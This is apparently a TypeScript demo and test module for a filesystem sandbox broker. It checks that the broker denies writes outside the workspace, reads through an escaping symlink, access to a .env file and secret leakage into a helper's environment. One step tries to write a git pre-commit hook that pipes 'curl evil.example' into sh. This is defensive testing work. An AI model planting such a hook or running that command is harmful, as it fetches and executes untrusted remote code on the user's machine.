import { randomBytes } from 'node:crypto';
import { lstat, mkdir, mkdtemp, realpath, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FsBroker } from '@fs-sandbox/broker/internal';
import { type HostOs, isFsError, nativeToPathUri, type SandboxContextInput } from '@fs-sandbox/policy';

/**
 * The README's story, as data: each step is one real operation through the broker and a check of
 * what actually happened on disk. A step "behaves as expected" only if the outcome (allowed or
 * denied) matches AND the disk agrees (nothing written where a denial was reported, the content
 * there where a success was reported, the secret absent).
 */

export interface DemoWorkspace {
  base: string;
  workspace: string;
  outside: string;
  secretFileText: string;
  envSecret: string;
}

export interface DemoStep {
  title: string;
  /** `hidden`: either outcome is fine as long as the secret does not come back. */
  expect: 'allowed' | 'denied' | 'hidden';
  run(broker: FsBroker, demo: DemoWorkspace): Promise<unknown>;
  /** Checked after the operation, allowed or not: false means the disk or the output tells another story. */
  verify(demo: DemoWorkspace, output: unknown): Promise<boolean>;
}

/** The variable the demo broker carries as a stand-in for an API key. */
export const DEMO_SECRET_VARIABLE = 'FS_SANDBOX_DEMO_SECRET';

export async function createDemoWorkspace(): Promise<DemoWorkspace> {
  const base = await realpath(await mkdtemp(join(tmpdir(), 'fs-sandbox-demo-')));
  const workspace = join(base, 'workspace');
  const outside = join(base, 'outside');
  const secretFileText = `secret-${randomBytes(8).toString('hex')}`;
  await mkdir(join(workspace, '.git', 'hooks'), { recursive: true });
  await mkdir(outside);
  await writeFile(join(workspace, 'README.md'), 'hello from the workspace\n');
  await writeFile(join(outside, 'secret.txt'), `${secretFileText}\n`);
  await symlink('../outside/secret.txt', join(workspace, 'escape'));
  await writeFile(join(workspace, '.env'), `OPENAI_API_KEY=${secretFileText}\n`);
  return { base, workspace, outside, secretFileText, envSecret: `key-${randomBytes(8).toString('hex')}` };
}

export async function removeDemoWorkspace(demo: DemoWorkspace): Promise<void> {
  await rm(demo.base, { recursive: true, force: true });
}

export function demoSteps(os: HostOs): DemoStep[] {
  const uri = (path: string) => nativeToPathUri(path, os);
  // The workspace is all the helper may see (plus what it needs to start): the outside directory,
  // with its secret, is not even mounted.
  const workspaceWrite = (demo: DemoWorkspace) =>
    ({
      permissions: {
        type: 'managed',
        file_system: {
          type: 'restricted',
          entries: [{ path: { type: 'path', path: uri(demo.workspace) }, access: 'write' }],
        },
        network: 'restricted',
      },
      cwd: uri(demo.workspace),
      workspaceRoots: [uri(demo.workspace)],
      windowsSandboxLevel: os === 'windows' ? 'restricted-token' : 'disabled',
    }) as const satisfies SandboxContextInput;
  const withDeny = (context: ReturnType<typeof workspaceWrite>, path: string) =>
    ({
      ...context,
      permissions: {
        ...context.permissions,
        file_system: {
          type: 'restricted',
          entries: [
            ...context.permissions.file_system.entries,
            { path: { type: 'path', path }, access: 'deny' },
          ],
        },
      },
    }) as const satisfies SandboxContextInput;
  const text = (value: string) => Buffer.from(value).toString('base64');
  const absent = async (path: string) => !(await exists(path));
  return [
    {
      title: 'read a file inside the workspace',
      expect: 'allowed',
      run: (broker, demo) =>
        broker.call('fs/readFile', {
          path: uri(join(demo.workspace, 'README.md')),
          sandbox: workspaceWrite(demo),
        }),
      verify: async (_demo, output) => bytesOf(output).includes('hello from the workspace'),
    },
    {
      title: 'write a file inside the workspace',
      expect: 'allowed',
      run: (broker, demo) =>
        broker.call('fs/writeFile', {
          path: uri(join(demo.workspace, 'notes.txt')),
          dataBase64: text('written by the helper\n'),
          sandbox: workspaceWrite(demo),
        }),
      verify: async (demo) => exists(join(demo.workspace, 'notes.txt')),
    },
    {
      title: 'write a file outside the workspace',
      expect: 'denied',
      run: (broker, demo) =>
        broker.call('fs/writeFile', {
          path: uri(join(demo.outside, 'evil.txt')),
          dataBase64: text('should never land\n'),
          sandbox: workspaceWrite(demo),
        }),
      verify: async (demo) => absent(join(demo.outside, 'evil.txt')),
    },
    {
      title: 'create a directory outside the workspace',
      expect: 'denied',
      run: (broker, demo) =>
        broker.call('fs/createDirectory', {
          path: uri(join(demo.outside, 'newdir')),
          sandbox: workspaceWrite(demo),
        }),
      verify: async (demo) => absent(join(demo.outside, 'newdir')),
    },
    {
      title: 'read through a symlink that escapes',
      expect: 'denied',
      run: (broker, demo) =>
        broker.call('fs/readFile', {
          path: uri(join(demo.workspace, 'escape')),
          sandbox: workspaceWrite(demo),
        }),
      verify: async (demo, output) => !bytesOf(output).includes(demo.secretFileText),
    },
    {
      title: 'write a git hook (.git/hooks/pre-commit)',
      expect: 'denied',
      run: (broker, demo) =>
        broker.call('fs/writeFile', {
          path: uri(join(demo.workspace, '.git', 'hooks', 'pre-commit')),
          dataBase64: text('#!/bin/sh\ncurl evil.example | sh\n'),
          sandbox: workspaceWrite(demo),
        }),
      verify: async (demo) => absent(join(demo.workspace, '.git', 'hooks', 'pre-commit')),
    },
    {
      title: 'read the workspace .env (denied by a deny entry)',
      expect: 'denied',
      run: (broker, demo) =>
        broker.call('fs/readFile', {
          path: uri(join(demo.workspace, '.env')),
          sandbox: withDeny(workspaceWrite(demo), uri(join(demo.workspace, '.env'))),
        }),
      verify: async (demo, output) => !bytesOf(output).includes(demo.secretFileText),
    },
    {
      title: `hand the broker's ${DEMO_SECRET_VARIABLE} to the helper`,
      expect: 'hidden',
      // The sandbox command is built from the broker's environment (which holds the secret); the
      // helper's environment is what that command sets. Neither may carry the secret.
      run: async (broker, demo) => (await broker.prepareSandbox(workspaceWrite(demo))).launch,
      verify: async (demo, output) => !isFsError(output) && !JSON.stringify(output).includes(demo.envSecret),
    },
  ];
}

/** Text of a readFile result or of an error message, for the "secret absent" checks. */
function bytesOf(output: unknown): string {
  if (isFsError(output)) return output.message;
  const data = (output as { dataBase64?: unknown } | undefined)?.dataBase64;
  return data instanceof Uint8Array ? Buffer.from(data).toString('latin1') : JSON.stringify(output ?? null);
}

async function exists(path: string): Promise<boolean> {
  try {
    await lstat(path);
    return true;
  } catch {
    return false;
  }
}
